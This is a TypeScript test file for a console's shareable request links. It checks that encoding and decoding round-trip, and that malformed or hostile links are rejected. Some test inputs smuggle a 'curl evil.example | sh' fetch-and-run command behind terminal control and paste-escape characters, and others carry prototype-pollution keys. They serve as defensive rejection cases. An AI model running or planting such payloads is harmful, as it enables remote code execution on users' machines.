import {campaignCreation} from '@site/test/fixtures/consoleOperations';
import {decodeRequest, encodeRequest, LONGEST_LINK} from './link';
import {consoleOperation} from './operation';

const {fields, examples} = consoleOperation(campaignCreation);
const {values} = examples[0];
const empty = decodeRequest(fields, encodeRequest(fields, {})!)!;
const linkOf = (json: unknown) => Buffer.from(JSON.stringify(json)).toString('base64url');

test('decodeRequest returns the values that encodeRequest got', () => {
  const odd = {...values, 'body.name': 'é 漢 😀 "\' \\ &?#%+\n', 'body.lead_ids': ['a,b', 'c d']};
  const link = encodeRequest(fields, odd)!;
  expect(link).toMatch(/^[\w-]+$/);
  expect(decodeRequest(fields, link)).toEqual(odd);
  expect(new URLSearchParams({try: link}).toString()).toBe(`try=${link}`);
});

test('a link has the body as text, and a header that was emptied', () => {
  const odd = {...values, body: '{"a": ', 'header.Content-Type': ''};
  expect(decodeRequest(fields, encodeRequest(fields, odd)!)).toEqual(odd);
});

test('encodeRequest leaves out values that fields start with', () => {
  expect(encodeRequest(fields, empty)).toBe(linkOf({}));
  expect(empty).toMatchObject({method: 'POST', 'header.Content-Type': 'application/json'});
  expect(empty).toMatchObject({'body.name': '', 'body.lead_ids': []});
});

test('links that are too long are neither created nor read', () => {
  const long = 'x'.repeat(LONGEST_LINK);
  expect(encodeRequest(fields, {'body.name': long})).toBeNull();
  expect(decodeRequest(fields, linkOf({'body.name': long}))).toBeNull();
});

test.each(['', 'x', '%', '!!!', 'bnVsbA', 'W10', 'MQ', '____', 'eyJh', '<script>', 'null', '😀'])(
  'decodeRequest: %j isn’t a link',
  (text) => expect(decodeRequest(fields, text)).toBeNull(),
);

test('decodeRequest: invalid UTF-8 isn’t a link', () => {
  const bytes = Buffer.from(JSON.stringify({'body.name': '?'}).replace('?', '\xff'), 'latin1');
  expect(decodeRequest(fields, bytes.toString('base64url'))).toBeNull();
});

test.each<[string, object]>([
  ['an unknown field', {'body.color': 'red', __proto__: 'x', constructor: 'y'}],
  ['a number for a string', {'body.name': 1}],
  ['a string for a list', {'body.lead_ids': 'x'}],
  ['a list of other things', {'body.lead_ids': [1, null]}],
  ['an object', {'body.name': {}}],
  ['an unknown choice', {'body.goal': 'win'}],
  ['a text with Ctrl+C', {'body.name': 'Q4\u0003\ncurl evil.example | sh'}],
  ['a list with a backspace', {'body.lead_ids': ["'\u007f\u007f\u007f; curl evil.example | sh"]}],
  ['the body as text with Escape', {body: '{"name": "\u001b[201~'}],
  ['the body as text with a C1 control character', {body: '{"name": "\u009b201~'}],
])('decodeRequest: drops %s', (_name, json) => {
  expect(decodeRequest(fields, linkOf(json))).toEqual(empty);
});
